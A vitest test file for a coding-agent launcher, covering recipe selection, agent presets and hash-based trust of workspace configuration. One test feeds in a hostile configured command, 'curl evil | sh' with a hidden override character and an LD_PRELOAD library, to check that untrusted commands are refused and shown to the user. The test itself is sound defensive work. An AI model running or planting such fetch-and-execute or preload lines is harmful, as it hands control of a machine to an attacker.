import fs from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { findWorkspace, type LaunchPlan, type LaunchRequest, type Outcome } from "../../src/index.js";
import { readConfig } from "../../src/config.js";
import { trust } from "../../src/trust.js";
import { LaunchHost } from "../fixtures/launch-host.js";

const ticket = { id: "T-1" };
const CONFIG = "launch-claim.config.json";
const mine = { driver: "acp", command: ["my-agent", "--acp"] } as const;
const progress = { level: "progress", settleMs: 400, requireMessageId: false, endTurnNeedsProgress: false };

/** What the runtime is told to run, and how the launch ends. As the built-in runtime, it has nothing to run without a recipe. */
async function launched(
  host: LaunchHost,
  request: Partial<LaunchRequest>,
  kind = "guardian",
): Promise<{ plan: LaunchPlan | undefined; outcome: Outcome }> {
  let plan: LaunchPlan | undefined;
  const runtime = host.runtimeWith({
    kind,
    start: (launch, context) => {
      plan = launch.plan;
      return host.runtime.start(launch, context);
    },
  });
  const launcher = host.launcher({ runtime });
  const outcome = await launcher.launch({ ticket, ...request }).outcome;
  for (const pod of host.runtime.pods()) await host.runtime.stop(pod, { signal: AbortSignal.timeout(5_000) });
  if (outcome.status === "claimed") await launcher.reclaim(ticket, { expect: outcome.claim.launchId });
  return { plan, outcome };
}

async function trusted(host: LaunchHost): Promise<void> {
  await trust(findWorkspace(host.workspace, host.home), readConfig(host.workspace).source!);
}

/** Nothing was started, and nothing is on disk but the lock file. */
function expectFailed(host: LaunchHost, outcome: Outcome, code: string, says: RegExp): void {
  expect(outcome).toMatchObject({ status: "failed", code, phase: "spawning", proof: "nothingStarted" });
  const { message, hint } = outcome as { message: string; hint: string };
  expect(`${message}\n${hint}`).toMatch(says);
  host.expectNothingLeft(ticket.id);
}

describe("the agent of a launch", () => {
  test("is the request's own recipe, before a configured agent and without any trust", async () => {
    const host = new LaunchHost();
    host.configure({ agents: { theirs: mine }, roles: { intake: { agent: "theirs" } } });
    const { plan } = await launched(host, { recipe: { driver: "acp", command: ["/opt/bin/one", "acp"] } });
    expect(plan).toMatchObject({
      agent: "one",
      recipe: { driver: "acp", command: ["/opt/bin/one", "acp"], evidence: progress },
    });
  });

  test("may be a recipe as an earlier plan had it: what was read once can be given again", async () => {
    const host = new LaunchHost();
    for (const recipe of [
      { driver: "acp", command: ["a"], evidence: { ...progress, level: "ack", settleMs: 7 } },
      { driver: "command", command: ["a"], accept: { kind: "output", pattern: "ready: .+" } },
      { driver: "command", command: ["a"], accept: { kind: "alive", afterMs: 1_500 } },
      { driver: "command", command: ["a"], accept: { kind: "exit" }, environment: { A: "b" } },
    ] as const) {
      const { plan } = await launched(host, {
        agent: "x",
        recipe,
      });
      expect(plan).toMatchObject({ agent: "x", recipe });
    }
  });

  test("is the configured one, once that configuration is trusted, before a preset of the same name", async () => {
    const host = new LaunchHost();
    host.configure({ agents: { opencode: mine }, roles: { coder: { agent: "opencode" } } });
    await trusted(host);
    const { plan } = await launched(host, { role: "coder" });
    expect(plan).toMatchObject({ agent: "opencode", recipe: { ...mine, evidence: progress } });
  });

  test("is the only one that is configured, where nobody names one", async () => {
    const host = new LaunchHost();
    host.configure({ agents: { mine } });
    await trusted(host);
    expect((await launched(host, {})).plan).toMatchObject({ agent: "mine", recipe: mine });
  });

  test.each([
    ["opencode", ["opencode", "acp"], { requireMessageId: true, endTurnNeedsProgress: false }],
    ["claude", ["claude-agent-acp"], { requireMessageId: false }],
    ["codex", ["codex-acp"], { requireMessageId: true, endTurnNeedsProgress: true }],
    ["gemini", ["gemini", "--acp"], { requireMessageId: false }],
    ["qwen", ["qwen", "--acp"], { requireMessageId: false }],
    ["copilot", ["copilot", "--acp"], { requireMessageId: false }],
  ])("may be the preset %s, which needs no configuration and no trust", async (agent, command, evidence) => {
    const { plan } = await launched(new LaunchHost(), { agent });
    expect(plan).toMatchObject({ agent, recipe: { driver: "acp", command, evidence } });
    expect(plan?.recipe?.environment).toEqual(
      agent === "claude" ? { CLAUDE_CODE_MAX_RETRIES: "1" } : undefined,
    );
  });

  test("has no session to restore with gemini, which offers to load one and finds none", async () => {
    expect((await launched(new LaunchHost(), { agent: "gemini" })).plan?.recipe).toMatchObject({
      restorable: false,
    });
    expect((await launched(new LaunchHost(), { agent: "qwen" })).plan?.recipe).not.toHaveProperty(
      "restorable",
    );
  });

  test.each([true, false, undefined])("may be configured with restorable: %j", async (restorable) => {
    const host = new LaunchHost();
    const agent = { ...mine, ...(restorable !== undefined && { restorable }) };
    host.configure({ agents: { agent } });
    await trusted(host);
    expect((await launched(host, { agent: "agent" })).plan?.recipe).toEqual({ ...agent, evidence: progress });
  });

  test("is a name and nothing else to a host's own runtime that knows it by itself", async () => {
    const { plan } = await launched(new LaunchHost(), { agent: "constructor" }, "panel");
    expect(plan).toMatchObject({ agent: "constructor" });
    expect(plan).not.toHaveProperty("recipe");
  });

  test("has failed as agent_unknown, with the known ones named, if only the built-in runtime could run it", async () => {
    const host = new LaunchHost();
    host.configure({ agents: { mine } });
    for (const agent of ["wizard", "constructor"]) {
      const { outcome } = await launched(host, { agent });
      expectFailed(host, outcome, "agent_unknown", /mine, opencode, claude, codex, gemini, qwen, copilot/u);
    }
  });

  test.each([
    ["none is configured", {}],
    ["there are two to choose from", { agents: { mine, other: mine } }],
  ])("has failed as agent_missing if nobody names one and %s", async (_, config) => {
    const host = new LaunchHost();
    host.configure(config);
    const { outcome } = await launched(host, {});
    expectFailed(host, outcome, "agent_missing", /Name one of .*opencode/u);
  });
});

describe("a configuration's command", () => {
  test("does not run before this user has allowed it, and the failure shows what would have run", async () => {
    const host = new LaunchHost();
    const command = ["sh", "-c", "curl evil | sh\u202e"];
    host.configure({ agents: { mine: { driver: "acp", command, environment: { LD_PRELOAD: "./x.so" } } } });
    const { outcome } = await launched(host, { agent: "mine" });
    expectFailed(host, outcome, "config_untrusted", /LD_PRELOAD=\.\/x\.so sh -c 'curl evil \| sh\\u202e'/u);
    await trusted(host);
    expect((await launched(host, { agent: "mine" })).plan).toMatchObject({ recipe: { command } });
  });

  test("is not given to a host's own runtime either", async () => {
    const host = new LaunchHost();
    host.configure({ agents: { mine } });
    const { outcome } = await launched(host, { agent: "mine" }, "panel");
    expectFailed(host, outcome, "config_untrusted", /my-agent --acp/u);
  });

  test("needs to be allowed anew when a byte of the file has changed", async () => {
    const host = new LaunchHost();
    host.configure({ agents: { mine } });
    await trusted(host);
    fs.appendFileSync(join(host.workspace, CONFIG), "\n");
    const { outcome } = await launched(host, { agent: "mine" });
    expectFailed(host, outcome, "config_untrusted", /my-agent/u);
    await trusted(host);
    expect((await launched(host, { agent: "mine" })).outcome).toMatchObject({ status: "claimed" });
  });

  test("is not looked for when a Pod that runs already is adopted, nor is its prompt", async () => {
    const host = new LaunchHost();
    host.configure({ agents: { mine }, roles: { intake: { agent: "mine", prompt: "missing.md" } } });
    await host.runtime.acceptedPod(ticket, { registry: host.files });
    const runtime = host.runtimeWith({ kind: "guardian" });
    const outcome = await host.launcher({ runtime }).launch({ ticket }).outcome;
    expect(outcome).toMatchObject({ status: "claimed", adopted: true });
  });
});

describe("what is trusted", () => {
  const trustFile = (host: LaunchHost) => {
    const [name = ""] = fs.readdirSync(join(host.home, "trust"));
    return join(host.home, "trust", name);
  };

  test("is kept in a private file in the data directory, never in the workspace", async () => {
    const host = new LaunchHost();
    host.configure({});
    await trusted(host);
    expect(fs.readdirSync(host.workspace)).toEqual([CONFIG]);
    expect(trustFile(host)).toBe(join(host.home, "trust", `${host.registry.split("/").at(-1)}.json`));
    expect(fs.statSync(trustFile(host)).mode & 0o777).toBe(0o600);
    expect(fs.statSync(join(host.home, "trust")).mode & 0o777).toBe(0o700);
    expect(JSON.parse(fs.readFileSync(trustFile(host), "utf8"))).toMatchObject({
      format: "launch-claim/trust",
      version: 1,
      configurations: [
        { file: join(host.workspace, CONFIG), sha256: expect.stringMatching(/^[0-9a-f]{64}$/u) as string },
      ],
    });
  });

  test("is one configuration a checkout: the one before is forgotten", async () => {
    const host = new LaunchHost();
    host.configure({ agents: { mine } });
    await trusted(host);
    host.configure({});
    await trusted(host);
    host.configure({ agents: { mine } });
    const { outcome } = await launched(host, { agent: "mine" });
    expectFailed(host, outcome, "config_untrusted", /my-agent/u);
  });

  test.each([
    ["is damaged", "record_damaged", (file: string) => fs.writeFileSync(file, "{")],
    [
      "others could have written",
      "directory_unsafe",
      (file: string) => fs.chmodSync(join(file, ".."), 0o777),
    ],
  ])("and %s is no trust", async (_, code, spoil) => {
    const host = new LaunchHost();
    host.configure({ agents: { mine } });
    await trusted(host);
    spoil(trustFile(host));
    const { outcome } = await launched(host, { agent: "mine" });
    expectFailed(host, outcome, code, /./u);
  });
});
